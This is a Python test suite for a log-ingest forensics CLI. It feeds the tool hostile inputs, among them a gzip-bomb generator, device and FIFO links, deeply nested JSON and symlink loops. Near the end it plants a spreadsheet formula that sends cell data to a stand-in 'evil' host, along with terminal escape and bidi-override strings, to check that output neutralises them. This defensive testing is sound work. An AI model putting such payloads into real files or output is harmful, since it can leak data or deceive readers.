"""Hostile input, crashes and concurrency (issue 16): every attack, run as a user runs it.

Each test puts one hostile thing beside good files and checks that every good record is
kept, the bad file is named, nothing hangs (every command has a timeout) and nothing outside
the case is touched. Hostile files are generated in ``tmp_path``; the gzip bomb is small here
(limits lowered with the CLI options) and full size in ``benchmarks/bench_hostile.py``.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from graphtrail.cli.ingest import run_ingest
from graphtrail.cli.main import app
from graphtrail.store.case import Case
from loaders import pipeline
from loaders.sources.files import list_files
from tests import shapes as S
from tests.clirunner import cli_runner
from tests.conftest import GRAPHTRAIL

STORY = S.story()
TIMEOUT = 120


class Ran:
    def __init__(self, returncode: int, stdout: str, stderr: str) -> None:
        self.returncode, self.stdout, self.stderr = returncode, stdout, stderr


def gt(*args, env: dict | None = None, process: bool = False) -> Ran:
    """Run ``graphtrail``: in this process (fast), or as the installed command (``process``),
    where a hang fails the test instead of blocking it."""
    env = {"GRAPHTRAIL_CSV_RAW": "", "COLUMNS": "200", **(env or {})}
    if process:
        res = subprocess.run([GRAPHTRAIL, *map(str, args)], capture_output=True, text=True,
                             timeout=TIMEOUT, env={**os.environ, **env})
        return Ran(res.returncode, res.stdout, res.stderr)
    res = cli_runner().invoke(app, [str(a) for a in args], env=env)
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        raise res.exception
    return Ran(res.exit_code, res.stdout, res.stderr)


def ingest(case: Path, *paths, extra=(), process: bool = False) -> tuple[int, dict, str]:
    res = gt("ingest", *paths, "--case", case, "--format", "json", *extra, process=process)
    assert "Traceback" not in res.stderr, res.stderr
    return res.returncode, json.loads(res.stdout) if res.stdout.strip() else {}, res.stderr


def good(tmp_path: Path, name: str = "good.json") -> Path:
    return S.write(tmp_path / "in" / name, S.s3_delivery(STORY))


def failed(summary: dict) -> dict[str, str]:
    return {Path(f["path"]).name: f["error"] for f in summary["files_failed"]}


def no_traceback(res: Ran) -> None:
    assert "Traceback" not in res.stderr + res.stdout, res.stderr


# -- bounded resources -----------------------------------------------------------------------


def _bomb(path: Path, mib: int) -> Path:
    """``mib`` MiB of zeros after an opening ``{"Records": [``, gzipped as it is written."""
    with gzip.open(path, "wb", compresslevel=9) as fh:
        fh.write(b'{"Records": [')
        zeros = bytes(1 << 20)
        for _ in range(mib):
            fh.write(zeros)
    return path


_PEAK = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True, "
         "text=True); print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); "
         "sys.stdout.write(r.stdout)")


def _ingest_measured(case: Path, *args: str) -> tuple[int, int, dict]:
    """Exit status, the largest resident set (KiB) of the ingest's processes, its summary:
    measured in a parent of its own, so the test runner's earlier children never count."""
    out = subprocess.run([sys.executable, "-c", _PEAK, GRAPHTRAIL, "ingest", *args, "--case", str(case),
                          "--format", "json"], capture_output=True, text=True, check=True).stdout
    head, _, body = out.partition("\n")
    code, peak = map(int, head.split())
    return code, peak, json.loads(body) if body.strip() else {}


def test_gzip_bomb_beside_a_good_file(tmp_path):
    good(tmp_path)
    bomb = _bomb(tmp_path / "in" / "bomb.json.gz", 64)
    assert bomb.stat().st_size < 200_000
    code, peak_kib, summary = _ingest_measured(tmp_path / "case", str(tmp_path / "in"),
                                               "--max-object-mb", "2")
    assert code == 0  # every readable record kept: damaged files are warnings
    assert summary["events_added"] == len(STORY)
    assert "bomb.json.gz" in failed(summary) and "over" in failed(summary)["bomb.json.gz"]
    assert peak_kib < 600 * 1024  # KiB: nowhere near the 64 MiB unpacked, x workers
    strict, _, _ = ingest(tmp_path / "case2", tmp_path / "in",
                          extra=("--max-object-mb", "2", "--strict"), process=True)
    assert strict == 1  # --strict: a damaged file is fatal


def test_dev_zero_link_and_fifo_are_reported_and_skipped(tmp_path):
    good(tmp_path)
    os.symlink("/dev/zero", tmp_path / "in" / "zero.json")
    os.mkfifo(tmp_path / "in" / "pipe.json")
    code, summary, _ = ingest(tmp_path / "case", tmp_path / "in")
    assert code == 0 and summary["events_added"] == len(STORY)
    bad = failed(summary)
    assert "a device" in bad["zero.json"] and "a FIFO" in bad["pipe.json"]


def test_a_gigantic_field_is_kept_truncated_and_marked(tmp_path):
    huge = dict(STORY[0], userAgent="A" * (8 << 20))
    S.write(tmp_path / "in" / "huge.json", S.s3_delivery([huge]))
    big = dict(STORY[2], userAgent="B" * 5000)  # over the field limit, within the object limit
    S.write(tmp_path / "in" / "big.json", S.s3_delivery([big, *STORY[3:]]))
    code, summary, _ = ingest(tmp_path / "case", tmp_path / "in",
                              extra=("--max-object-mb", "1", "--max-field-kb", "1"))
    assert code == 0 and summary["events_added"] == 1 + len(STORY) - 2
    assert "truncated" in failed(summary)["huge.json"] and "truncated" in failed(summary)["big.json"]
    agents = {r["event_id"]: r["user_agent"] for r in Case.open(tmp_path / "case").events(
        ["event_id", "user_agent"]).to_pylist()}
    ua = agents[STORY[0]["eventID"]]
    assert ua.startswith("A" * 1024) and ua.endswith(f"[truncated by graphtrail: {8 << 20} bytes]")
    assert len(ua) < 2048
    assert agents[STORY[2]["eventID"]].endswith("[truncated by graphtrail: 5000 bytes]")
    res = gt("timeline", "--access-key", S.ALICE_KEY, "--case", tmp_path / "case", "--format", "json")
    assert res.returncode == 0 and "truncated by graphtrail" in res.stdout


def test_ten_good_records_then_one_nested_100k_deep(tmp_path):
    good_records = [S.iam_user_call("ListUsers", n=100 + i) for i in range(10)]
    deep = '{"eventName": "X", "requestParameters": ' + "[" * 100_000 + "]" * 100_000 + "}"
    text = json.dumps({"Records": good_records})[:-2] + ", " + deep + "]}"
    S.write(tmp_path / "in" / "deep.json", text.encode())
    lines = "\n".join([*(json.dumps(r) for r in STORY), deep])
    S.write(tmp_path / "in" / "deep.jsonl", lines.encode())
    code, summary, _ = ingest(tmp_path / "case", tmp_path / "in")
    assert code == 0 and summary["events_added"] == 10 + len(STORY)
    bad = failed(summary)
    assert "record 11 at byte" in bad["deep.json"] and "nested deeper" in bad["deep.json"]
    assert bad["deep.jsonl"].startswith(f"line {len(STORY) + 1}: nested deeper")


def test_a_worker_that_dies_costs_only_its_file(tmp_path, monkeypatch):
    """A worker killed mid-file (as the kernel kills one over a memory limit): its file is
    named, every other file is read, and the ingest finishes."""
    monkeypatch.setattr(pipeline, "TASK_OBJECTS", 2)
    read_task, here = pipeline.read_task, os.getpid()

    def killed_on_victim(task, *args):  # forked workers inherit this
        if os.getpid() != here and any(o.uri.endswith("victim.json") for o, _ in task):
            os.kill(os.getpid(), signal.SIGKILL)
        return read_task(task, *args)

    monkeypatch.setattr(pipeline, "read_task", killed_on_victim)
    for i, rec in enumerate(STORY):
        S.write(tmp_path / "in" / f"f{i}.json", S.s3_delivery([rec]))
    S.write(tmp_path / "in" / "f3-victim.json", S.s3_delivery([S.iam_user_call("X", n=99)]))
    case = Case.open(tmp_path / "case", create=True)
    t0 = time.monotonic()
    summary = run_ingest(list(list_files([str(tmp_path / "in")])), case, workers=2)
    assert time.monotonic() - t0 < 60
    assert summary.events_added == len(STORY)
    assert [Path(f["path"]).name for f in summary.files_failed] == ["f3-victim.json"]
    assert "died" in summary.files_failed[0]["error"]


# -- one bad record costs only itself --------------------------------------------------------


def test_lone_surrogate_costs_nothing_else(tmp_path):
    bad = dict(STORY[0], userAgent="curl \ud800 x")
    S.write(tmp_path / "in" / "a.json", json.dumps({"Records": [bad, STORY[1]]}).encode())
    S.write(tmp_path / "in" / "b.json", S.s3_delivery(STORY[2:]))
    for _ in range(2):  # and on a re-run
        code, summary, _ = ingest(tmp_path / "case", tmp_path / "in")
        assert code == 0, summary
    case = Case.open(tmp_path / "case")
    assert case.event_count() == len(STORY)
    agents = [r["user_agent"] for r in case.events(["user_agent"]).to_pylist()]
    assert "curl \ufffd x" in agents


@pytest.mark.parametrize("year", ["9999", "0001", "2300"])
def test_out_of_range_times_are_rejected_with_file_and_position(tmp_path, year):
    odd = dict(S.assumed_role_call("DeleteTrail", n=25), eventTime=f"{year}-06-01T00:00:00Z")
    S.write(tmp_path / "in" / "odd.json", S.s3_delivery([*STORY, odd]))
    code, summary, _ = ingest(tmp_path / "case", tmp_path / "in")
    assert code == 0 and summary["events_added"] == len(STORY)
    assert failed(summary)["odd.json"].startswith(f"record {len(STORY) + 1}: eventTime out of range")
    for cmd in (("timeline", "--access-key", S.SESSION_KEY), ("blast-radius", "--access-key", S.SESSION_KEY)):
        res = gt(*cmd, "--case", tmp_path / "case", "--format", "json")
        assert res.returncode == 0, res.stderr
    res = gt("report", "--access-key", S.SESSION_KEY, "--case", tmp_path / "case",
             "--out", tmp_path / "r.md", "--format", "md")
    assert res.returncode == 0, res.stderr


# -- a case never touches what is not its own ---------------------------------------------------


def test_case_refuses_a_folder_of_the_users(tmp_path):
    mine = tmp_path / "mine"
    for rel in ("graph/keep.txt", "events/x.parquet", "manifest-1.jsonl", "eventkeys-1.npy", "notes.md"):
        S.write(mine / rel, b"precious")
    before = sorted((p.relative_to(mine), p.read_bytes()) for p in mine.rglob("*") if p.is_file())
    code, _, err = ingest(mine, good(tmp_path))
    assert code == 2 and "not a graphtrail case" in err and len(err.strip().splitlines()) == 1
    after = sorted((p.relative_to(mine), p.read_bytes()) for p in mine.rglob("*") if p.is_file())
    assert after == before


def test_cases_made_before_the_marker_are_still_cases(tmp_path):
    code, _, _ = ingest(tmp_path / "case", S.write(tmp_path / "a.json", S.s3_delivery(STORY[:3])))
    assert code == 0
    (tmp_path / "case" / ".graphtrail-case").unlink()  # as an earlier version left it
    code, summary, _ = ingest(tmp_path / "case", S.write(tmp_path / "b.json", S.s3_delivery(STORY[3:])))
    assert code == 0 and Case.open(tmp_path / "case").event_count() == len(STORY)


def test_case_a_file_and_out_a_folder_are_one_line_errors(tmp_path):
    a_file = S.write(tmp_path / "file.txt", b"x")
    code, _, err = ingest(a_file, good(tmp_path))
    assert code == 2 and "a file, not a case folder" in err and len(err.strip().splitlines()) == 1
    res = gt("timeline", "--access-key", S.ALICE_KEY, "--case", a_file)
    assert res.returncode == 2 and "a file" in res.stderr
    no_traceback(res)
    ingest(tmp_path / "case", good(tmp_path))
    for cmd in (("report", "--access-key", S.ALICE_KEY), ("view",)):
        res = gt(*cmd, "--case", tmp_path / "case", "--out", tmp_path)
        assert res.returncode == 2 and "a folder" in res.stderr, res.stderr
        no_traceback(res)
        assert len(res.stderr.strip().splitlines()) <= 2  # one message, wrapped at most once


@pytest.mark.neo4j
def test_neo4j_push_leaves_foreign_nodes_alone(tmp_path, bolt_server):
    from graphtrail.store.neo4j import Neo4jStore
    from graphtrail.store.neo4j_case import push_case
    from graphtrail.wiring import ensure_graph

    server = Neo4jStore(bolt_server.uri, bolt_server.user, bolt_server.password,
                        bolt_server.database)
    server.write("MATCH (n) DETACH DELETE n")
    server.write("CREATE (:Customer {id: 7, name: 'acme'}), (:Customer {id: 'c-1'})")
    ingest(tmp_path / "case", good(tmp_path))
    case = Case.open(tmp_path / "case")
    ensure_graph(case)
    push_case(case, server)
    # A foreign node under one of graphtrail's labels, with an id of another type. (Created
    # after the first push: ArcadeDB, unlike Neo4j, types a property from its first value.)
    server.write("CREATE (:Role {id: 99, note: 'theirs'})")
    push_case(case, server)
    foreign = server.run("MATCH (n) WHERE NOT n:Graphtrail RETURN labels(n) AS l, n.id AS id")
    assert sorted((r["l"][0], str(r["id"])) for r in foreign) == [
        ("Customer", "7"), ("Customer", "c-1"), ("Role", "99")]
    mine = server.run("MATCH (n:Graphtrail) WHERE NOT n:Call RETURN count(n) AS n")[0]["n"]
    assert mine == case.graph_table("nodes").num_rows
    server.write("MATCH (n) DETACH DELETE n")
    server.close()


# -- concurrency ------------------------------------------------------------------------------


def _stale_case(tmp_path: Path) -> Path:
    case_dir = tmp_path / "case"
    ingest(case_dir, S.write(tmp_path / "a.json", S.s3_delivery(STORY[:4])))
    case = Case.open(case_dir)
    run_ingest(list(list_files([str(S.write(tmp_path / "b.json", S.s3_delivery(STORY[4:])))])),
               case, workers=0)  # committed, graph not rebuilt: stale
    assert not Case.open(case_dir).graph_is_current()
    return case_dir


def test_readers_on_a_stale_case_do_not_crash(tmp_path):
    case_dir = _stale_case(tmp_path)
    cmd = [GRAPHTRAIL, "timeline", "--access-key", S.ALICE_KEY, "--case", str(case_dir),
           "--format", "json"]
    procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(4)]
    outs = [p.communicate(timeout=TIMEOUT) for p in procs]
    for p, (out, err) in zip(procs, outs, strict=True):
        assert p.returncode == 0 and "Traceback" not in err, err
        assert {r["event_id"] for r in json.loads(out)} >= {STORY[0]["eventID"]}
    assert Case.open(case_dir).graph_is_current()
    assert not list(case_dir.glob(".graph-build-*"))


def test_an_ingest_beside_queries_finishes_and_prints_its_summary(tmp_path):
    case_dir = _stale_case(tmp_path)
    more = S.write(tmp_path / "c.json", S.s3_delivery([S.iam_user_call("ListGroups", n=60 + i)
                                                       for i in range(50)]))
    query = [GRAPHTRAIL, "timeline", "--access-key", S.ALICE_KEY, "--case", str(case_dir),
             "--format", "json"]
    procs = [subprocess.Popen(q, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for q in (query, [GRAPHTRAIL, "ingest", str(more), "--case", str(case_dir)], query)]
    outs = [p.communicate(timeout=TIMEOUT) for p in procs]
    for p, (_, err) in zip(procs, outs, strict=True):
        assert p.returncode == 0 and "Traceback" not in err, err
    assert "events added 50" in outs[1][0]
    case = Case.open(case_dir)
    assert case.event_count() == len(STORY) + 50 and case.graph_is_current()


# -- the window filters the calls, never the seed ----------------------------------------------


def test_a_session_issued_before_since_is_still_found(tmp_path):
    ingest(tmp_path / "case", good(tmp_path))
    since = S.at(15)  # the session was issued at 10, used at 20 and 21
    res = gt("timeline", "--access-key", S.SESSION_KEY, "--since", since, "--case",
             tmp_path / "case", "--format", "json")
    assert res.returncode == 0, res.stderr
    assert [r["event_id"] for r in json.loads(res.stdout)] == [S.event_id(20), S.event_id(21)]
    res = gt("blast-radius", "--access-key", S.SESSION_KEY, "--since", since, "--case",
             tmp_path / "case", "--format", "json")
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["calls"] == 2
    res = gt("report", "--access-key", S.SESSION_KEY, "--since", since, "--case", tmp_path / "case",
             "--out", tmp_path / "r.md", "--format", "md")
    assert res.returncode == 0, res.stderr
    later = gt("timeline", "--access-key", S.SESSION_KEY, "--since", "2024-08-03T00:00:00Z",
               "--case", tmp_path / "case")
    assert later.returncode != 0  # expired long before: not in that window


# -- symbolic links ------------------------------------------------------------------------


def test_dangling_links_loops_and_linked_folders(tmp_path):
    good(tmp_path)
    other = tmp_path / "elsewhere"
    S.write(other / "more.json", S.s3_delivery([S.iam_user_call("ListGroups", n=70)]))
    os.symlink(other, tmp_path / "in" / "linked")
    os.symlink(other, tmp_path / "in" / "linked-again")  # the same folder: read once
    os.symlink(tmp_path / "in", tmp_path / "in" / "loop")
    os.symlink(tmp_path / "nowhere.json", tmp_path / "in" / "dangling.json")
    os.symlink("self.json", tmp_path / "in" / "self.json")
    code, summary, _ = ingest(tmp_path / "case", tmp_path / "in")
    assert code == 0 and summary["events_added"] == len(STORY) + 1
    bad = failed(summary)
    assert set(bad) == {"loop", "dangling.json", "self.json"}
    assert "loop" in bad["loop"] and "dangling" in bad["dangling.json"] and "loop" in bad["self.json"]


# -- output that cannot hurt its reader -------------------------------------------------------


def _hostile_case(tmp_path: Path) -> Path:
    recs = [dict(S.iam_user_call("ListUsers", n=200 + i), userAgent=ua) for i, ua in enumerate(
        ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
         "esc \x1b[2J\x1b]0;owned\x07 bidi \u202e", "[/b][red]markup"])]
    recs.append(dict(S.iam_user_call("List\x1b]0;owned\x07Users", n=300),
                     awsRegion="us-east-1\x1b[2J\u202e", sourceIPAddress="[/b][red]markup"))
    S.write(tmp_path / "in" / "x[/b].json", S.s3_delivery(recs))
    return tmp_path / "case"


def test_csv_cells_never_start_a_formula(tmp_path):
    case = _hostile_case(tmp_path)
    code, _, _ = ingest(case, tmp_path / "in")
    assert code == 0
    res = gt("timeline", "--access-key", S.ALICE_KEY, "--case", case, "--format", "csv")
    assert res.returncode == 0, res.stderr
    cells = [c for row in csv.reader(io.StringIO(res.stdout)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in cells and "'-2+3" in cells
    raw = gt("--raw", "timeline", "--access-key", S.ALICE_KEY, "--case", case, "--format", "csv")
    raw_cells = [c for row in csv.reader(io.StringIO(raw.stdout)) for c in row]
    assert "@SUM(A1)" in raw_cells and "'@SUM(A1)" not in raw_cells


def test_terminal_output_escapes_controls_and_never_reads_markup(tmp_path):
    case = _hostile_case(tmp_path)
    res = gt("ingest", tmp_path / "in", "--case", case, process=True)
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    assert "x[/b].json" in res.stdout or "case" in res.stdout
    S.write(tmp_path / "bad" / "y[/b]\x1b[31m.json", b"not json")
    res = gt("ingest", tmp_path / "bad", "--case", case, process=True)
    assert res.returncode == 1 and "damaged" in res.stdout and "\x1b[31m" not in res.stdout  # nothing readable
    assert "y[/b]\\x1b[31m.json" in res.stdout
    res = gt("timeline", "--access-key", S.ALICE_KEY, "--case", case, process=True)
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout and "\u202e" not in res.stdout
    cells = "".join(c for c in res.stdout if c not in "│ \n")  # the table, cells unfolded
    assert "\\x1b[2J" in cells and "[/b][red]markup" in cells
    res = gt("report", "--access-key", S.ALICE_KEY, "--case", case, "--format", "md",
             "--out", tmp_path / "r.md")
    assert res.returncode == 0, res.stderr
    md = (tmp_path / "r.md").read_text()
    assert "\x1b" not in md and "\u202e" not in md

